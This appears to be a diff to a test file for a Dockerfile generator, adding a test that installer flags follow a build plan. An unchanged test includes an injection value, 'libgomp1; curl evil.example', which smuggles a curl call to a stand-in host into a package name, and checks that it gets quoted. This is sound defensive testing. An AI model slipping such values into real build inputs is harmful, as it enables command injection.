@@ -71,6 +71,13 @@ def test_layer_order_and_hygiene() -> None:
     assert "HEALTHCHECK" in text
 
 
+@pytest.mark.parametrize(("bytecode", "keep_tests"), [(True, False), (False, True)])
+def test_installer_flags_follow_the_plan(bytecode: bool, keep_tests: bool) -> None:
+    text = dockerfile(plan(bytecode=bytecode, keep_tests=keep_tests))
+    assert ("--compile" in text) is bytecode
+    assert ("--prune-tests" in text) is not keep_tests
+
+
 def test_values_are_quoted() -> None:
     text = dockerfile(plan(system_packages=("libgomp1; curl evil.example",)))
     assert "'libgomp1; curl evil.example'" in text
